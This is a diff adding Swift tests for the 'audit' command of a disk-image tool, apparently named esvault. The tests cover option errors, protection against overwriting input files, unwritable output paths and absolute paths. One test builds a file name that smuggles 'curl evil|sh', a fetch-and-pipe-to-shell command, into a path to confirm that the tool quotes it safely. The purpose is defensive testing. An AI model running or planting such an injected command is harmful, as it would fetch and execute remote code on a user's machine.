@@ -333,12 +333,66 @@ import Testing
   @Test func theMachineIsNotLookedAtAndItsChecksAreNotMade() throws {
     let image = try images.container()
     let other = try Tool.run("audit", "--check", "luks2", "--image", image)
-    #expect(other.status == 2 && other.errors.contains("there is no check 'luks2'"))
+    #expect(other.status == 2)
+    #expect(other.errors.contains("the check 'luks2' is made without --image only"))
+    let without = try Tool.run("audit", "--check", "image-sample")
+    #expect(without.status == 2)
+    #expect(without.errors.contains("the check 'image-sample' is made with --image only"))
+    for option in [["--check-key"], ["--config", "/nonexistent/x"]] {
+      #expect(try Tool.run(["audit", "--image", image] + option).status == 64)
+    }
     let some = try Tool.run(
-      "audit", "--config", "/nonexistent/x", "--image", image, image, "--check", "image-sample",
+      "audit", "--image", image, image, "--check", "image-sample",
       "--format", "json", "--image", image)
     #expect(some.status == 0)
     #expect(some.output.components(separatedBy: "\"subject\"").count == 4)
+  }
+
+  @Test func whatIsReadIsNeverReplaced() throws {
+    let image = try images.container()
+    let before = try Data(contentsOf: URL(fileURLWithPath: image))
+    for path in [image, "\(images.path)/./\((image as NSString).lastPathComponent)"] {
+      let outcome = try Tool.run("audit", "--image", image, "--output", path)
+      #expect(outcome.status == 2)
+      #expect(outcome.errors.contains("the file to write, '\(path)', is one to read, '\(image)'"))
+    }
+    #expect(try Data(contentsOf: URL(fileURLWithPath: image)) == before)
+    let outcome = try Tool.run("audit", "--config", images.key, "--output", images.key)
+    #expect(outcome.status == 2 && outcome.errors.contains("is one to read"))
+    #expect(try String(contentsOfFile: images.key, encoding: .utf8) == "geheim")
+  }
+
+  @Test func whatCannotBeWrittenIsFoundBeforeTheAudit() throws {
+    for (path, cause) in [
+      ("\(images.path)/none/x", "No such file or directory"), ("", "it names no file"),
+    ] {
+      let outcome = try Tool.run("audit", "--image", "/dev/null", "--output", path)
+      #expect(outcome.status == 1)
+      #expect(outcome.errors.hasPrefix("esvault: could not write '\(path)': \(cause)\n"))
+    }
+    let foreign = try Tool.runAsNobody("audit", "--image", "/dev/null", "--output", "/usr/x")
+    #expect(foreign.status == 1 && foreign.output.isEmpty)
+    #expect(foreign.errors == "esvault: could not write '/usr/x': Permission denied\n")
+  }
+
+  @Test func aNameIsNeverTakenForTheCommand() throws {
+    let path = "\(images.path)/x: curl  evil|sh #.img"
+    let command = "ls -l '\(images.path)/x:'' curl  evil|sh #.img'"
+    let table = try Tool.run("audit", "--image", path).output
+    #expect(table.split(separator: "\n").contains("    \(command)"))
+    let page = try Tool.run("audit", "--format", "html", "--image", path).output
+    #expect(page.contains("<code>\(command.replacing("'", with: "&#39;"))</code>"))
+  }
+
+  @Test func imagesAreKnownByTheirPathsFromTheRoot() throws {
+    let folder = FileManager.default.currentDirectoryPath
+    let outcome = try Tool.run(
+      "audit", "--format", "json", "--image=-none.img", "--image", "./none.img", "/none.img")
+    let document = try JSONSerialization.jsonObject(with: Data(outcome.output.utf8))
+    #expect(
+      (document as? [String: Any])?["images"] as? [String]
+        == ["\(folder)/-none.img", "\(folder)/none.img", "/none.img"])
+    #expect(outcome.output.contains("whole, and readable: ls -l \(folder)/-none.img\""))
   }
 
   @Test func samplesAreOfImages() throws {
